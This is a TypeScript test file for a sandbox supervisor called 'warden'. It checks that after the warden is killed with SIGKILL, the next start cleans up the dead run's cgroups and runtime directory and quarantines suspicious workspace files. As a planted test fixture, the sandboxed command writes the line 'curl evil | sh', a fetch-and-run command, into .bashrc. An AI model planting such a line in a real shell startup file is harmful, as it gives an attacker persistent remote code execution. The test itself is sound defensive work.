/**
 * A warden killed with SIGKILL cannot clean up after itself: its sandbox dies with it (the
 * sandbox's pid 1 has a parent-death signal), but the run's cgroups and runtime directory stay,
 * and the post-run check of its workspace never ran. The next warden start does both.
 */
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  auditEvents,
  availableModes,
  makeWorkspace,
  removeWorkspace,
  runShell,
  userIds,
  TEST_USER,
  type Mode,
} from '../helpers/warden.js';

function runtimeRoot(mode: Mode): string {
  return mode === 'root' ? '/run/warden' : `/tmp/warden-${userIds(TEST_USER)?.uid ?? 0}`;
}

function cgroupDirs(mode: Mode, runId: string): string[] {
  const base = mode === 'root' ? 'warden' : `warden/user-${userIds(TEST_USER)?.uid ?? 0}`;
  return ['memory', 'pids', 'cpu'].map((c) => join('/sys/fs/cgroup', c, base, runId)).filter((dir) => existsSync(dir));
}

describe.each(availableModes())('recovery after SIGKILL of warden, as %s', (mode: Mode) => {
  it("SBX-13 SBX-20 the next start removes the dead run's cgroups and runtime directory and runs its post-run check", async () => {
    const workspace = makeWorkspace(mode);
    try {
      let wardenPid = -1;
      const running = runShell(
        mode,
        workspace,
        'echo "curl evil | sh" > .bashrc; echo started > started; sleep 600',
        [],
        {
          onSpawn: (pid) => (wardenPid = pid),
        },
      );
      const deadline = Date.now() + 15_000;
      while (!existsSync(join(workspace, 'started')) && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 20));
      expect(existsSync(join(workspace, 'started'))).toBe(true);

      // Nothing of warden's is in the workspace while the run is alive (no placeholders).
      expect(existsSync(join(workspace, '.mcp.json'))).toBe(false);
      const runIds = readdirSync(runtimeRoot(mode)).filter((n) => n.startsWith('run_'));
      // Other suites run sandboxes concurrently: pick the one this warden owns.
      const ownedBy = (id: string): number | null => {
        try {
          return (JSON.parse(readFileSync(join(runtimeRoot(mode), id, 'owner.json'), 'utf8')) as { pid: number }).pid;
        } catch {
          return null;
        }
      };
      const runId = runIds.find((id) => ownedBy(id) === wardenPid && cgroupDirs(mode, id).length > 0);
      expect(runId, 'the running sandbox has cgroups').toBeDefined();

      process.kill(wardenPid, 'SIGKILL');
      expect((await running).signal).toBe('SIGKILL');
      // Left behind by the dead warden: the agent's .bashrc, unchecked.
      expect(existsSync(join(workspace, '.bashrc'))).toBe(true);
      expect(existsSync(join(runtimeRoot(mode), runId ?? ''))).toBe(true);

      // Any next run recovers the abandoned one, and says what its check found.
      const next = await runShell(mode, workspace, 'true');
      expect(next.code, next.stderr).toBe(0);
      expect(existsSync(join(workspace, '.bashrc'))).toBe(false);
      expect(existsSync(join(workspace, `.bashrc.warden-quarantine-${runId ?? ''}`))).toBe(true);
      // Every start recovers dead runs, and other suites start wardens in the same runtime root at
      // the same time: the start that found this one may be another's (its stderr is not ours to
      // see), but the record is in the audit log they share either way.
      const events = await auditEvents(mode, workspace, runId ?? '');
      const recovered = events.filter((e) => e.type === 'run.recovered');
      expect(recovered.map((e) => e.data['sandbox'])).toEqual([runId]);
      expect(recovered[0]?.data['post_run']).toMatchObject({ findings: 1, complete: true });
      const violation = events.find((e) => e.type === 'violation');
      expect(violation?.data['detail']).toContain(join(workspace, '.bashrc'));
      expect(events.filter((e) => e.type === 'run.ended')).toEqual([]);
      if (next.stderr.includes(`warden: ${runId ?? ''} ended without its warden`))
        expect(next.stderr).toContain(`QUARANTINED ${join(workspace, '.bashrc')}`);
      expect(existsSync(join(workspace, '.git'))).toBe(false);
      expect(existsSync(join(runtimeRoot(mode), runId ?? ''))).toBe(false);
      expect(cgroupDirs(mode, runId ?? '')).toEqual([]);
    } finally {
      removeWorkspace(workspace);
    }
  });
});
